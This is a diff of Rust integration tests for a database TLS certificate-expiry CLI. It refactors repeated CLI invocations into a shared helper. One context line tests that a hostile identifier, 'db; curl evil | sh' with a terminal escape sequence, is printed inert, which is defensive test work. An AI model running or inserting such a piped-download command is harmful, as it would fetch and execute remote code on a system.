@@ -227,25 +227,31 @@ fn hostile_identifiers_get_no_command_and_print_inert() {
     assert!(report.to_text().contains("db; curl evil | sh\\u{1b}[2J"));
 }
 
-#[test]
-fn the_cli_prints_the_report_and_exits_1_when_a_ca_is_due() {
+/// `fleet --at NOW --csv` with `extra` flags over these fixture files; it must exit 1 (a CA is
+/// due). Its CSV.
+fn fleet_csv(extra: &[&str], files: &[&str]) -> String {
     let dir = format!("{}/tests/fixtures/inventory", env!("CARGO_MANIFEST_DIR"));
     let out = std::process::Command::new(env!("CARGO_BIN_EXE_mysql-tls-doctor"))
         .args(["fleet", "--at", NOW, "--csv"])
-        .args(
-            [
-                "describe-db-instances.json",
-                "describe-db-clusters.json",
-                "describe-db-proxies.json",
-                "describe-certificates.json",
-            ]
-            .iter()
-            .flat_map(|f| ["--inventory".to_owned(), format!("{dir}/{f}")]),
-        )
+        .args(extra)
+        .args(files.iter().flat_map(|f| ["--inventory".to_owned(), format!("{dir}/{f}")]))
         .output()
         .expect("run the CLI");
     assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
-    let csv = String::from_utf8(out.stdout).expect("utf-8");
+    String::from_utf8(out.stdout).expect("utf-8")
+}
+
+#[test]
+fn the_cli_prints_the_report_and_exits_1_when_a_ca_is_due() {
+    let csv = fleet_csv(
+        &[],
+        &[
+            "describe-db-instances.json",
+            "describe-db-clusters.json",
+            "describe-db-proxies.json",
+            "describe-certificates.json",
+        ],
+    );
     let lines: Vec<&str> = csv.lines().collect();
     assert_eq!(lines.len(), 7);
     assert_eq!(lines[0], "kind,id,engine,engine_version,endpoint,region,ca_id,ca_valid_till,ca_days_left,server_cert_valid_till,state,rotation,command,why");
@@ -267,19 +273,8 @@ fn the_cli_prints_the_report_and_exits_1_when_a_ca_is_due() {
 
 #[test]
 fn warn_days_sets_the_inventorys_horizon() {
-    let dir = format!("{}/tests/fixtures/inventory", env!("CARGO_MANIFEST_DIR"));
     let run = |days: &str| {
-        let out = std::process::Command::new(env!("CARGO_BIN_EXE_mysql-tls-doctor"))
-            .args(["fleet", "--at", NOW, "--csv", "--warn-days", days])
-            .args(
-                ["describe-db-instances.json", "describe-certificates.json"]
-                    .iter()
-                    .flat_map(|f| ["--inventory".to_owned(), format!("{dir}/{f}")]),
-            )
-            .output()
-            .expect("run the CLI");
-        assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
-        let csv = String::from_utf8(out.stdout).expect("utf-8");
+        let csv = fleet_csv(&["--warn-days", days], &["describe-db-instances.json", "describe-certificates.json"]);
         // (id, state, whether a command is printed) of the instance 100 days from its CA's end.
         csv.lines()
             .filter_map(|l| {
